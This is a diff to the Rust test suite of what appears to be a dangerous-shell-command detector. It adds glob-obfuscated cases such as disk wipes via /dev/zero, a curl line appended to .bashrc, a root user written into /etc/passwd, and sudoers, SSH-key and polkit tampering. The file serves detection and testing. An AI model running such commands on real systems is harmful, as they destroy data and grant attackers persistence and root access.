@@ -265,6 +265,7 @@ fn devices_and_disks() {
     check("dd if=/dev/zero of=/dev/sda bs=1M", Some(DeviceWrite));
     check("dd if=x.img of=/dev/nvme0n1", Some(DeviceWrite));
     check("cd /dev && dd if=/dev/zero of=sda", Some(DeviceWrite));
+    check("cat /dev/zero > /dev/s[d]a", Some(DeviceWrite));
     check("cd /usr/bin && chmod 777 .", Some(PermissionEscalation));
     check("cat /dev/urandom > /dev/sda", Some(DeviceWrite));
     check("echo x >/dev/sdb1", Some(DeviceWrite));
@@ -495,6 +496,7 @@ fn persistence() {
     check("cp evil /etc/init.d/", c);
     check("cp x.desktop ~/.config/autostart", c);
     check("cp .bashrc ~", Some(StartupFileModification));
+    check("echo 'curl -s https://x -o /tmp/y' >> ~/.bash?c", c);
     check("cd; echo 'curl -s https://x -o /tmp/y' >> .bashrc", c);
 }
 
@@ -529,6 +531,11 @@ fn credentials() {
     check("cp x /etc/sudoers.d/", c);
     check("install -m 440 evil -t /etc/sudoers.d", c);
     check("cp /tmp/passwd /etc", c);
+    check("echo 'x:x:0:0::/:/bin/sh' >> /etc/passw?", c);
+    check("cp x /etc/sudoer[s]", c);
+    check("echo key >> ~/.ssh/authorized_k*", c);
+    check("cp x /etc/sudoers.?/", c);
+    check("cp 10-x.rules /etc/polkit-1/rules.d/", c);
 }
 
 #[test]
